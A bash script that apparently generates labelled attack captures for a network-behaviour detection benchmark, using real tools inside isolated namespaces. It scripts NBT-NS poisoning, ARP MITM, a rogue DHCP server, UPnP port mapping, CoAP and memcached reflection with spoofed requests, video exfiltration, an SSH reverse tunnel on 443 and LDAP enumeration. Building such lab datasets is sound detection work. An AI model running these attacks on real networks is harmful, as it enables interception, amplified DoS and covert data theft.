#!/usr/bin/env bash
# A FOURTH fresh attack set ("f4-*"): techniques the behaviour model was never tuned on (NBT-NS poisoning, ARP
# MITM, rogue DHCP, UPnP IGD port mapping, CoAP and memcached reflection, hijacked-camera video streams, an SSH
# reverse tunnel on 443, LDAP enumeration), made with real tools between network namespaces. The lab is
# fresh3/gen-fresh3.sh's (attacker = the device 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20
# 02:66:00:00:00:20, dummies .31-.34, a routed "internet" 10.128.0.0/9 behind the victim), with its own
# namespaces (prefix f4-) and veth names (f4p-*), so it cannot collide with the other generators' labs.
# The ARP MITM's web servers are 198.51.100.0/24 behind the victim (a LAN injection keeps such addresses as
# they are, so the intercepted flows stay public-looking).
# tcpdump on the device's veth; OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format).
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): samba-common-bin smbclient dsniff dnsmasq busybox miniupnpc miniupnpd libcoap3-bin memcached
#   ffmpeg openssh-server openssh-client slapd ldap-utils nftables socat curl python3 tcpdump wireshark-common bc
# Helpers: nbns-responder.py (the device's NBT-NS poisoner + SMB listener), reflect-udp.py (spoofed CoAP /
#   memcached requests from the reflection target's address).
#
# Usage: bash bench/behavior/fresh4/gen-fresh4.sh [--out DIR (default /work/behavior-bench-fresh4)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh4
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f4 GEN=gen-fresh4
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
ns att ip route add 224.0.0.0/4 dev eth0
sleep 1

# ---------- "internet" hosts: addresses on the victim's lo ----------
# 10.128.90.5 / .6 video ingest (RTP, RTMP), 10.128.90.10 an sshd on 443, 198.51.100.80-82 web servers (MITM).
internet_hosts 10.128.90.5 10.128.90.6 10.128.90.10 198.51.100.80 198.51.100.81 198.51.100.82
mkdir -p "$W/www" "$W/cam"
head -c 6000 /dev/urandom | base64 > "$W/www/index.html"
ns vic timeout 3600 busybox httpd -f -p 80 -h "$W/www" &
PIDS+=($!)
sleep 1

export NET VIC_IP ATT_IP W PY

# ---------- 1. NBT-NS poisoning: a neighbour's broadcast name lookups answered by the device, then SMB to it ----------
if want f4-nbns-poison; then
  ip netns exec f4-att timeout 300 $PY "$HERE/nbns-responder.py" "$ATT_IP" &
  PIDS+=($!)
  NBNS_PID=$!
  sleep 1
  # d31 (a Windows-ish PC) looks up mistyped share names by broadcast, 10 rounds ~7 s apart, and opens the
  # share on whoever answered (smbclient -L, anonymous)
  cat > "$W/nbns-victim.sh" <<'EOS'
for r in $(seq 1 10); do
  case $((r % 3)) in 0) n=FILESRV01 ;; 1) n=PRINTSRV ;; *) n=NAS-BACKUP ;; esac
  ip=$(timeout 6 nmblookup -B "$NET.255" "$n" 2>/dev/null | awk '/<00>/{print $1; exit}')
  [ -n "$ip" ] && timeout 6 smbclient -N -L "//$ip" -m SMB2 >/dev/null 2>&1
  sleep $((5 + RANDOM % 4))
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f4-nbns-poison lateral nbns-responder+smb attacker lan false 120 \
    ip netns exec f4-d31 bash "$W/nbns-victim.sh"
  stopbg "$NBNS_PID"
fi

# ---------- 2. ARP cache poisoning MITM (arpspoof both ways, forwarding on) of a neighbour's web traffic ----------
if want f4-arp-mitm; then
  ns d32 ip route add 198.51.100.0/24 via "$VIC_IP"
  ns att ip route add 198.51.100.0/24 via "$VIC_IP"   # the device forwards what it intercepts to the real router
  ns att sysctl -qw net.ipv4.ip_forward=1
  ns att sysctl -qw net.ipv4.conf.all.send_redirects=0
  ns att sysctl -qw net.ipv4.conf.eth0.send_redirects=0
  cat > "$W/mitm-client.sh" <<'EOS'
for i in $(seq 1 30); do
  timeout 5 curl -s -m 4 -o /dev/null "http://198.51.100.$((80 + i % 3))/index.html?r=$i"
  sleep $((1 + RANDOM % 3))
done
EOS
  cat > "$W/mitm.sh" <<EOS
timeout 80 arpspoof -i eth0 -t $NET.32 -r $VIC_IP >/dev/null 2>&1 &
sleep 5
ip netns exec f4-d32 timeout 70 bash "$W/mitm-client.sh"
wait
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f4-arp-mitm mitm arpspoof+forwarding attacker lan false 110 bash "$W/mitm.sh"
  ns att sysctl -qw net.ipv4.ip_forward=0
fi

# ---------- 3. rogue DHCP server (dnsmasq on the device: itself as router and DNS) for a neighbour ----------
if want f4-rogue-dhcp; then
  ip netns exec f4-att timeout 300 dnsmasq -k --no-resolv --no-hosts --bind-interfaces --interface=eth0 --except-interface=lo --port=53 \
    --dhcp-range=$NET.100,$NET.150,255.255.255.0,2m --dhcp-option=3,$ATT_IP --dhcp-option=6,$ATT_IP \
    --dhcp-authoritative --dhcp-leasefile="$W/rogue.leases" --pid-file="$W/dnsmasq-rogue.pid" --user=root \
    2>"$W/dnsmasq-rogue.log" &
  PIDS+=($!)
  ROGUE_PID=$!
  sleep 2
  # d33 takes a lease, configures it, renews it once at T1 (60 s of dnsmasq's 2 min minimum), releases it
  # when stopped, then rejoins twice, releasing each (busybox udhcpc; the hostname of a printer)
  cat > "$W/udhcpc.script" <<'EOS'
#!/bin/sh
case "$1" in
  bound|renew) ip addr replace "$ip/24" dev "$interface" ;;
  deconfig) ip -4 addr show dev "$interface" | awk '/inet 10\.66\.0\.1[0-9][0-9]\//{print $2}' | xargs -r -n1 ip addr del dev "$interface" ;;
esac
exit 0
EOS
  chmod +x "$W/udhcpc.script"
  cat > "$W/dhcp-client.sh" <<'EOS'
U="busybox udhcpc -i eth0 -f -R -t 3 -T 2 -s $W/udhcpc.script -x hostname:printer-3f"
timeout 68 $U >/dev/null 2>&1
for r in 1 2; do
  sleep 8
  timeout 15 $U -q -n >/dev/null 2>&1
  sleep 5
done
EOS
  CAP_VIC_IP=$NET.33 CAP_VIC_MAC=02:66:00:00:00:33 cap f4-rogue-dhcp mitm dnsmasq-rogue-dhcp attacker lan false 120 \
    ip netns exec f4-d33 bash "$W/dhcp-client.sh"
  stopbg "$ROGUE_PID"
fi

# ---------- 4. UPnP IGD port mapping (upnpc against miniupnpd on the victim = the LAN's router) ----------
if want f4-upnp-portmap; then
  ns vic ip link add wan0 type veth peer name wan0p   # the router's "WAN" port (no dummy module on these VMs)
  ns vic ip link set wan0p up
  ns vic ip addr add 93.184.216.2/24 dev wan0   # public-looking: miniupnpd refuses a reserved external address
  ns vic ip link set wan0 up
  ns vic ip route add 224.0.0.0/4 dev eth0
  # the nftables chains miniupnpd fills (Debian's nft_init.sh needs iptables; this is its structure)
  ns vic nft -f - <<'EOF'
table inet filter {
  chain forward { type filter hook forward priority 0; policy accept; jump miniupnpd; }
  chain miniupnpd { }
  chain prerouting { type nat hook prerouting priority -100; policy accept; jump prerouting_miniupnpd; }
  chain prerouting_miniupnpd { }
  chain postrouting { type nat hook postrouting priority 100; policy accept; jump postrouting_miniupnpd; }
  chain postrouting_miniupnpd { }
}
EOF
  cat > "$W/miniupnpd.conf" <<EOF
ext_ifname=wan0
upnp_table_name=filter
upnp_nat_table_name=filter
upnp_forward_chain=miniupnpd
upnp_nat_chain=prerouting_miniupnpd
upnp_nat_postrouting_chain=postrouting_miniupnpd
listening_ip=eth0
http_port=5000
enable_natpmp=yes
enable_upnp=yes
secure_mode=yes
system_uptime=yes
friendly_name=Home Router
uuid=3b9c1f2e-1b65-451c-87c5-3fe5ebe417ef
allow 1024-65535 $NET.0/24 1024-65535
allow 1-65535 $NET.0/24 1-65535
deny 0-65535 0.0.0.0/0 0-65535
EOF
  ip netns exec f4-vic timeout 300 miniupnpd -d -f "$W/miniupnpd.conf" -P "$W/miniupnpd.pid" >"$W/miniupnpd.log" 2>&1 &
  PIDS+=($!)
  UPNPD_PID=$!
  sleep 2
  # the device discovers the IGD by SSDP, reads its status, opens 4 inbound ports to itself, lists them
  cat > "$W/upnp.sh" <<EOS
U="timeout 15 upnpc -m eth0"
\$U -s; sleep 3
\$U -e cam-telnet -a $ATT_IP 23 2323 TCP; sleep 4
\$U -e cam-http -a $ATT_IP 80 8081 TCP; sleep 4
\$U -e cam-ssh -a $ATT_IP 22 2222 TCP; sleep 4
\$U -e p2p -a $ATT_IP 51413 51413 UDP; sleep 4
\$U -l; sleep 10
\$U -s
EOS
  cap f4-upnp-portmap persistence miniupnpc-upnpc attacker lan false 90 bash "$W/upnp.sh"
  stopbg "$UPNPD_PID"
fi

# ---------- 5. CoAP reflection: the device's coap-server answers spoofed GET /.well-known/core ----------
if wantany f4-coap-reflector f4-coap-reflector-slow; then
  ns att timeout 400 coap-server-notls -A "$ATT_IP" -p 5683 >"$W/coap-server.log" 2>&1 &
  PIDS+=($!)
  sleep 1
  cap f4-coap-reflector dos coap-server+spoofed-get attacker public false 90 \
    ip netns exec f4-vic $PY "$HERE/reflect-udp.py" coap "$ATT_IP" 800 0.04
  # slow: one spoofed GET every 1.5 s for a minute
  cap f4-coap-reflector-slow dos coap-server+spoofed-get-slow attacker public false 90 \
    ip netns exec f4-vic $PY "$HERE/reflect-udp.py" coap "$ATT_IP" 40 1.5
fi

# ---------- 6. memcached UDP reflection: the device's exposed memcached answers spoofed gets of 2 large keys ----------
if want f4-memcached-reflector; then
  ns att timeout 300 memcached -u root -l "$ATT_IP" -p 11211 -U 11211 -m 16 >"$W/memcached.log" 2>&1 &
  PIDS+=($!)
  sleep 1
  ns att $PY - "$ATT_IP" <<'EOS'
import os, socket, sys
for k in ("cam_cfg", "cam_fw"):
    v = os.urandom(6000).hex().encode()
    c = socket.create_connection((sys.argv[1], 11211), timeout=3)
    c.sendall(b"set %s 0 0 %d\r\n%s\r\n" % (k.encode(), len(v), v)); c.recv(100); c.close()
EOS
  cap f4-memcached-reflector dos memcached-udp+spoofed-get attacker public false 90 \
    ip netns exec f4-vic $PY "$HERE/reflect-udp.py" memcached "$ATT_IP" 300 0.15
fi

# ---------- 7. hijacked camera feed: ffmpeg streams a test pattern to an internet host (RTP/UDP, RTMP/TCP) ----------
if want f4-video-rtp; then
  ns vic timeout 120 socat -u UDP-RECV:5004,bind=10.128.90.5 /dev/null &
  PIDS+=($!)
  ns vic timeout 120 socat -u UDP-RECV:5005,bind=10.128.90.5 /dev/null &
  PIDS+=($!)
  sleep 1
  CAP_VIC_IP=10.128.90.5 cap f4-video-rtp exfil ffmpeg-rtp attacker public false 90 \
    ffmpeg -nostdin -hide_banner -loglevel error -re -f lavfi -i testsrc=size=640x360:rate=15 -t 60 \
    -c:v libx264 -preset ultrafast -tune zerolatency -b:v 600k -f rtp rtp://10.128.90.5:5004
fi
if want f4-video-rtmp; then
  ns vic timeout 120 ffmpeg -nostdin -hide_banner -loglevel error -listen 1 -i rtmp://10.128.90.6:1935/live/cam \
    -c copy -f null - >"$W/rtmp-server.log" 2>&1 &
  PIDS+=($!)
  sleep 2
  CAP_VIC_IP=10.128.90.6 cap f4-video-rtmp exfil ffmpeg-rtmp attacker public false 90 \
    ffmpeg -nostdin -hide_banner -loglevel error -re -f lavfi -i testsrc=size=640x360:rate=15 -t 60 \
    -c:v libx264 -preset ultrafast -tune zerolatency -b:v 600k -f flv rtmp://10.128.90.6:1935/live/cam
fi

# ---------- 8. SSH reverse tunnel on 443: the device exposes its local web UI to an operator's sshd ----------
if want f4-ssh-rtunnel-443; then
  mkdir -p /run/sshd
  [ -f "$W/ssh_host_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/ssh_host_ed25519"
  [ -f "$W/id_ed25519" ] || ssh-keygen -q -t ed25519 -N '' -f "$W/id_ed25519"
  cp "$W/id_ed25519.pub" "$W/authorized_keys"
  cat > "$W/sshd_config" <<EOF
ListenAddress 10.128.90.10:443
HostKey $W/ssh_host_ed25519
AuthorizedKeysFile $W/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
AllowTcpForwarding yes
ClientAliveInterval 20
PidFile $W/sshd.pid
EOF
  ns vic timeout 300 /usr/sbin/sshd -D -e -f "$W/sshd_config" >"$W/sshd.log" 2>&1 &
  PIDS+=($!)
  head -c 40000 /dev/urandom > "$W/cam/snap.jpg"
  ns att timeout 300 busybox httpd -f -p 127.0.0.1:8080 -h "$W/cam" &
  PIDS+=($!)
  sleep 1
  # the operator fetches a snapshot through the tunnel 7 times, ~10 s apart
  cat > "$W/rtunnel.sh" <<EOS
timeout 90 ssh -N -p 443 -i "$W/id_ed25519" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
  -o ServerAliveInterval=15 -o ExitOnForwardFailure=yes -R 127.0.0.1:8022:127.0.0.1:8080 root@10.128.90.10 &
sleep 6
for i in \$(seq 1 7); do
  ip netns exec f4-vic timeout 8 curl -s -m 6 -o /dev/null http://127.0.0.1:8022/snap.jpg
  sleep 10
done
wait
EOS
  CAP_VIC_IP=10.128.90.10 cap f4-ssh-rtunnel-443 c2 openssh-reverse-tunnel-443 attacker public false 110 bash "$W/rtunnel.sh"
fi

# ---------- 9. LDAP enumeration (ldapsearch) of a neighbour's directory: loud and quiet ----------
if wantany f4-ldap-enum f4-ldap-enum-quiet; then
  rm -rf "$W/ldapdb"; mkdir -p "$W/ldapdb"
  cat > "$W/slapd.conf" <<EOF
include /etc/ldap/schema/core.schema
include /etc/ldap/schema/cosine.schema
include /etc/ldap/schema/inetorgperson.schema
include /etc/ldap/schema/nis.schema
modulepath /usr/lib/ldap
moduleload back_mdb
pidfile $W/slapd.pid
database mdb
maxsize 50000000
suffix "dc=corp,dc=example"
rootdn "cn=admin,dc=corp,dc=example"
rootpw notsecret
directory $W/ldapdb
access to attrs=userPassword by * auth
access to * by * read
EOF
  $PY - > "$W/corp.ldif" <<'EOS'
import random
random.seed(4)
print("dn: dc=corp,dc=example\nobjectClass: dcObject\nobjectClass: organization\no: Corp\ndc: corp\n")
for ou in ("People", "Groups", "Computers", "Service Accounts"):
    print(f"dn: ou={ou},dc=corp,dc=example\nobjectClass: organizationalUnit\nou: {ou}\n")
first = "anna ben carla dan eva finn gina hugo iris jon kim leo mia nils olga paul rosa sven tina uwe".split()
last = "meyer smith novak rossi berg klein lund weber fischer wolf".split()
users = []
for i in range(80):
    u = f"{random.choice(first)}.{random.choice(last)}{i}"
    users.append(u)
    print(f"dn: uid={u},ou=People,dc=corp,dc=example\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\n"
          f"uid: {u}\ncn: {u}\nsn: {u.split('.')[1]}\nmail: {u}@corp.example\nuidNumber: {2000+i}\ngidNumber: 2000\n"
          f"homeDirectory: /home/{u}\ntitle: {random.choice(['Engineer','Accountant','Admin','Manager','Intern'])}\n"
          f"userPassword: x{random.randint(0,10**8)}\n")
for g in ("Domain Admins", "IT", "Finance", "HR", "VPN Users", "Backup Operators", "Developers", "Printers"):
    members = "".join(f"memberUid: {u}\n" for u in random.sample(users, 8))
    print(f"dn: cn={g},ou=Groups,dc=corp,dc=example\nobjectClass: posixGroup\ncn: {g}\ngidNumber: {3000+len(g)}\n{members}")
for i in range(30):
    print(f"dn: cn=ws-{i:03d},ou=Computers,dc=corp,dc=example\nobjectClass: device\ncn: ws-{i:03d}\n"
          f"description: Windows 10 workstation, floor {i % 4}\n")
EOS
  slapadd -q -f "$W/slapd.conf" -l "$W/corp.ldif" >"$W/slapadd.log" 2>&1
  ns d34 timeout 400 slapd -d 0 -h "ldap://$NET.34/" -f "$W/slapd.conf" >"$W/slapd.log" 2>&1 &
  PIDS+=($!)
  sleep 2
  # loud: rootDSE, naming contexts, a dump of every subtree, the admin groups, and 25 per-user lookups
  cat > "$W/ldap-enum.sh" <<EOS
L="timeout 10 ldapsearch -x -LLL -H ldap://$NET.34 -o nettimeout=5"
\$L -s base -b '' '(objectClass=*)' namingContexts supportedLDAPVersion supportedControl
\$L -b dc=corp,dc=example -s one '(objectClass=*)' dn
for q in '(objectClass=inetOrgPerson)' '(objectClass=posixGroup)' '(objectClass=device)' '(title=Admin)' \
         '(cn=Domain Admins)' '(cn=Backup Operators)' '(mail=*)' '(objectClass=*)'; do
  \$L -b dc=corp,dc=example "\$q"; sleep 0.5
done
for u in \$(\$L -b ou=People,dc=corp,dc=example '(objectClass=inetOrgPerson)' uid | awk '/^uid:/{print \$2}' | head -25); do
  \$L -b dc=corp,dc=example "(|(uid=\$u)(memberUid=\$u))"; sleep 0.7
done
EOS
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f4-ldap-enum recon ldapsearch-enum attacker lan false 120 bash "$W/ldap-enum.sh"
  # quiet: 4 searches, 15 s apart
  CAP_VIC_IP=$NET.34 CAP_VIC_MAC=02:66:00:00:00:34 cap f4-ldap-enum-quiet recon ldapsearch-enum-slow attacker lan false 120 bash -c \
    "for q in '(objectClass=posixGroup)' '(cn=Domain Admins)' '(title=Admin)' '(objectClass=device)'; do timeout 10 ldapsearch -x -LLL -H ldap://$NET.34 -o nettimeout=5 -b dc=corp,dc=example \"\$q\" >/dev/null; sleep 15; done"
fi

# ---------- index ----------
lab_index
